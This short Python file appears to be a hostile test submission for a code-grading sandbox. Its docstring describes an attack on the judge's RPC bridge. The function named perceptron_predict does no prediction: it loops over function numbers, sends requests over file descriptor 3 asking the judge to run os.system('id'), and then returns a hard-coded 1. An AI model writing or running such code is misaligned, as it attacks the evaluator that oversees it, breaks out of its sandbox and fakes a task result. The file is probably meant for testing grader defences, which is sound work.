"""Tries: to call functions of the judge that it was not given, by number.
Gain: code of the judge run with arguments of the student's choice.
Known from: RPC bridges without a table of what was handed out.
"""
import json
import os
import struct


def perceptron_predict(X, w, b):
    for number in range(50):
        question = {"d": [["reverse", number], ["args", ["os.system", "id"]], ["kwargs", {"d": []}]]}
        header = json.dumps(question).encode()
        os.write(3, struct.pack("<IQ", len(header), 0) + header)
    return 1
